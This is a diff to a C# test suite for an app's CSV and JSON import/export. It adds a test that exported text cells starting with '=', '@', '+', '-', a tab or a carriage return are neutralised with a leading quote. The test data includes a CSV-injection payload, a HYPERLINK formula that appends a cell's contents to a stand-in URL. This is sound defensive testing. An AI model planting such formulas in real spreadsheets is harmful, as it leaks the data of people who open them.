@@ -376,6 +376,35 @@ public sealed class ImportExportTests : OrganisationTest
     }
 
     [Test]
+    public async Task CsvExportNeutralisesFormulasAndTheRoundTripStaysExact()
+    {
+        // Written by a member through the API: every text a spreadsheet would run as a formula.
+        const string formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")";
+        var objective = await CreateObjectiveAsync(Org.Member, new
+        {
+            title = formula, description = "@SUM(1+1)", periodId = Org.PeriodId, teamId = Org.ProductId, ownerId = Org.MemberId, externalId = "-1+cmd",
+            keyResults = new[] { new { title = "+1 customers", direction = "increase", baseline = -5, target = 10, unit = "'quoted", externalId = "\tK" } },
+        });
+        await ExpectAsync(await Org.Member.PostAsJsonAsync($"/api/v1/key-results/{Id(objective["keyResults"]![0]!)}/check-ins", new { value = -2, note = "\rnote" }),
+            HttpStatusCode.Created);
+
+        var export = await ExportAsync(Org.Admin, "csv");
+        var cells = export.Split("\r\n")[1];
+        Assert.That(cells, Does.StartWith("'-1+cmd,\"'=HYPERLINK("), "the external id and the title are text behind a quote");
+        Assert.That(cells, Does.Contain(",'@SUM(1+1),").And.Contain(",'+1 customers,").And.Contain(",''quoted,").And.Contain(",-5,"),
+            "text is neutralised, numbers are not");
+
+        // Into an empty organisation and out again: the same file, and the same titles through the API.
+        await ResetDatabaseAsync();
+        await CreateOrganisationAsync();
+        await ImportAsync(Org.Admin, Csv(export));
+        Assert.That(await ExportAsync(Org.Admin, "csv"), Is.EqualTo(export));
+        var back = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/objectives?externalId=-1%2Bcmd"), HttpStatusCode.OK);
+        Assert.That(back["items"]![0]!["title"]!.GetValue<string>(), Is.EqualTo(formula));
+        Assert.That(back["items"]![0]!["keyResults"]![0]!["unit"]!.GetValue<string>(), Is.EqualTo("'quoted"));
+    }
+
+    [Test]
     public async Task ACheckInNoteIsKeptTheSameWayThroughTheApiAndTheImport()
     {
         await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
@@ -421,7 +450,7 @@ public sealed class ImportExportTests : OrganisationTest
 
     /// <summary>Data the app makes that an import must carry over as it is: no externalIds, closed and archived
     /// objectives with their outcome, currency, empty notes, padded text, people who left, an owner no longer in the
-    /// team, and an objective aligned to one archived since.</summary>
+    /// team, and an archived objective aligned to one archived after it.</summary>
     private async Task MakeHistoryInTheAppAsync()
     {
         await ImportAsync(Org.Admin, Csv(SampleCsv()));
@@ -437,7 +466,9 @@ public sealed class ImportExportTests : OrganisationTest
         });
         await PatchObjectiveAsync(money, new { state = "closed", finalScore = 0.8, closingComment = "Good quarter " });
         await PatchObjectiveAsync(money, new { state = "archived" });
-        await PatchObjectiveAsync(await ObjectiveByExternalIdAsync(Org.Admin, "P-1"), new { state = "archived" }); // M-1 still aligns to it
+        // Archived bottom-up (nothing else may stay aligned to an archived objective): M-1 keeps its link to P-1 as history.
+        await PatchObjectiveAsync(await ObjectiveByExternalIdAsync(Org.Admin, "M-1"), new { state = "archived" });
+        await PatchObjectiveAsync(await ObjectiveByExternalIdAsync(Org.Admin, "P-1"), new { state = "archived" });
         await ExpectAsync(await Org.Admin.DeleteAsync($"/api/v1/teams/{Org.ProductId}/members/{Org.MemberId}"), HttpStatusCode.NoContent); // M-1's owner left
         await ExpectAsync(await Org.Admin.PostAsync($"/api/v1/users/{Org.OutsiderId}/deactivate", null), HttpStatusCode.OK);
     }
